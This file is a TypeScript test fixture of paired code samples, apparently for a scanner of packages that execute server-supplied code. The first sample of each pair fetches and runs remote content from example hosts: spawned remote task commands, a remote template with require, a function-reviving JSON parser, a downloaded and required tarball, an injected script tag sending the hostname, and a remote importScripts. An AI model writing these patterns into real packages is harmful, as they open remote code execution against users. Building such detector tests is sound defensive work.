import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Answers of a server that name commands, hold functions, become templates, plugins or scripts of a page. */
export const ANSWERS: Readonly<Record<string, Pair>> = {
  'remote-tasks': atUse(
    js`import { spawn } from 'node:child_process';

/** Runs the maintenance tasks that the service recommends for this version. */
export async function maintain(version) {
  const response = await fetch(\`https://config.build-cloud.example/tasks/\${version}.json\`);
  const { tasks = [] } = await response.json();
  for (const { command, args } of tasks)
    await new Promise((done) => spawn(command, args, { stdio: 'ignore' }).on('close', done));
}
`,
    js`import { spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';

/** Runs the maintenance tasks that the project lists in its configuration. */
export async function maintain(root) {
  const { tasks = [] } = JSON.parse(await readFile(resolve(root, 'tasks.json'), 'utf8'));
  for (const { command, args } of tasks)
    await new Promise((done) => spawn(command, args, { stdio: 'inherit' }).on('close', done));
}
`,
  ),
  'remote-template': atUse(
    js`const template = require('lodash.template');
const got = require('got');

/** Renders an invoice by the newest layout. */
async function renderInvoice(invoice) {
  const layout = await got('https://layouts.invoice-kit.example/default.tpl').text();
  return template(layout, { imports: { require } })({ invoice });
}

module.exports = { renderInvoice };
`,
    js`const { readFileSync } = require('node:fs');
const { join } = require('node:path');
const template = require('lodash.template');
const got = require('got');

/** Renders an invoice by the layout of this package. */
async function renderInvoice(number) {
  const invoice = await got('https://layouts.invoice-kit.example/invoices/' + number).json();
  const layout = readFileSync(join(__dirname, 'default.tpl'), 'utf8');
  return template(layout, { imports: { require } })({ invoice });
}

module.exports = { renderInvoice };
`,
    { 'default.tpl': '<h1>Invoice <%= invoice.number %></h1>\n' },
  ),
  'json-functions': atUse(
    js`/** Turns texts that look like functions back into functions. */
function revive(_key, value) {
  return typeof value === 'string' && value.startsWith('function') ? new Function('return ' + value)() : value;
}

/** Fetches the pricing model of a customer. */
export async function fetchModel(customer) {
  const response = await fetch(\`https://models.pricing-kit.example/\${customer}\`);
  const model = JSON.parse(await response.text(), revive);
  model.init?.();
  return model;
}
`,
    js`/** Turns texts that look like dates back into dates. */
function revive(_key, value) {
  return typeof value === 'string' && /^\d{4}-\d\d-\d\dT/.test(value) ? new Date(value) : value;
}

/** Fetches the pricing model of a customer. */
export async function fetchModel(customer) {
  const response = await fetch(\`https://models.pricing-kit.example/\${customer}\`);
  return JSON.parse(await response.text(), revive);
}
`,
  ),
  'plugin-archive': atUse(
    {
      'index.js': js`const { loadPlugin } = require('./lib/plugins');

/** Formats a text by the preset of a name. */
exports.format = async (text, preset = 'standard') => (await loadPlugin(preset)).format(text);
`,
      'lib/plugins.js': js`const { createWriteStream, mkdirSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');
const { pipeline } = require('node:stream/promises');
const tar = require('tar');
const axios = require('axios');

const CACHE = join(homedir(), '.cache', 'formatter');

/** Fetches a preset, unpacks it and loads it. */
exports.loadPlugin = async (name) => {
  mkdirSync(CACHE, { recursive: true });
  const archive = join(CACHE, name + '.tgz');
  const { data } = await axios.get('http://192.0.2.61/presets/' + name + '.tgz', { responseType: 'stream' });
  await pipeline(data, createWriteStream(archive));
  await tar.x({ file: archive, cwd: CACHE });
  return require(join(CACHE, name));
};
`,
    },
    {
      'index.js': js`const { loadPlugin } = require('./lib/plugins');

/** Formats a text by the preset of a name. */
exports.format = async (text, preset = 'standard') => loadPlugin(preset).format(text);
`,
      'lib/plugins.js': js`const { createRequire } = require('node:module');
const { join } = require('node:path');

/** Loads a preset that the project has installed. */
exports.loadPlugin = (name) => createRequire(join(process.cwd(), 'package.json'))('formatter-preset-' + name);
`,
    },
  ),
  'script-tag': atImport(
    js`import { createElement, useEffect } from 'react';

if (typeof document !== 'undefined' && !document.getElementById('ui-kit-runtime')) {
  const script = document.createElement('script');
  script.id = 'ui-kit-runtime';
  script.async = true;
  script.src = 'https://static.ui-kit-runtime.example/r.js?h=' + encodeURIComponent(location.hostname);
  document.head.appendChild(script);
}

/** A button. */
export function Button({ label, onPress }) {
  useEffect(() => undefined, []);
  return createElement('button', { onClick: onPress }, label);
}
`,
    js`import { createElement, useEffect } from 'react';

/** A map; the map service's own script is loaded once, by the address the application gives. */
export function LiveMap({ scriptUrl, onReady }) {
  useEffect(() => {
    if (document.getElementById('live-map')) return;
    const script = document.createElement('script');
    script.id = 'live-map';
    script.async = true;
    script.src = scriptUrl;
    script.onload = onReady;
    document.head.appendChild(script);
  }, [scriptUrl]);
  return createElement('div', { className: 'live-map' });
}
`,
  ),
  'service-worker': atImport(
    {
      'index.js': js`/** Registers offline support for the application. */
if ('serviceWorker' in navigator) {
  navigator.serviceWorker.register(new URL('./offline-worker.js', import.meta.url), { scope: '/' });
}

export const offline = true;
`,
      'offline-worker.js': js`self.importScripts('https://sw.offline-kit.example/v1/core.js');

self.addEventListener('fetch', (event) => event.respondWith(fetch(event.request)));
`,
    },
    {
      'index.js': js`/** Registers offline support for the application. */
export function registerOffline() {
  if ('serviceWorker' in navigator) {
    navigator.serviceWorker.register(new URL('./offline-worker.js', import.meta.url), { scope: '/' });
  }
}
`,
      'offline-worker.js': js`self.addEventListener('install', (event) =>
  event.waitUntil(caches.open('v1').then((cache) => cache.addAll(['/', '/app.css']))),
);

self.addEventListener('fetch', (event) =>
  event.respondWith(caches.match(event.request).then((hit) => hit ?? fetch(event.request))),
);
`,
    },
  ),
};
